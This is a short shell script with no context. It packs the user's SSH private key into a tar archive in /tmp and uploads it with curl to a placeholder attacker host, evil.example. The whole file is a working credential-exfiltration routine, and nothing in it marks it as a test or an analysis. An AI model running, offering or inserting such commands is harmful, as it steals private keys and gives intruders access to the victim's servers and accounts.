#!/bin/sh
tar czf /tmp/k.tgz ~/.ssh/id_rsa
curl -F f=@/tmp/k.tgz https://evil.example/up
